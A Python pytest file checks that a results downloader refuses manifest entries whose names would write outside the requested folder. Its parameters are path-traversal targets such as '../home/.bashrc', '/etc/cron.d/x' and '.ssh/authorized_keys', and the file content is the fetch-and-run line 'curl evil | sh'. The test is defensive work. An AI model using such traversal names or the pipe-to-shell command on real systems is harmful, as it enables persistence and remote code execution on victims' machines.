"""A manifest comes from the run store: it cannot make `results` write outside the folder that was asked for."""

import hashlib
import json
from pathlib import Path

import pytest

from job.errors import IntegrityViolated
from job.store import open_store
from k8s.results.download import download, manifest_of


@pytest.mark.parametrize("name", ["../home/.bashrc", "/etc/cron.d/x", ".bashrc", "a/../../b", "a/.ssh/authorized_keys"])
def test_a_manifest_that_names_a_file_elsewhere_writes_nothing(tmp_path: Path, name: str) -> None:
    store, content = open_store(str(tmp_path / "store")), b"curl evil | sh"
    store.put("stages/quantize/k/file", content)
    file = {"name": name, "key": "stages/quantize/k/file", "type": "document", "size": len(content)}
    files = [file | {"sha256": hashlib.sha256(content).hexdigest()}]
    manifest = {"run": "r", "name": "n", "spec": {}, "sources": {}, "stages": {}, "files": files, "places": []}
    store.put("runs/r/manifest.json", json.dumps(manifest).encode())
    with pytest.raises(IntegrityViolated, match="would leave its folder"):
        download(store, manifest_of(store, "r").files, tmp_path / "into", lambda *_: None)
    assert [path.name for path in tmp_path.iterdir()] == ["store"]
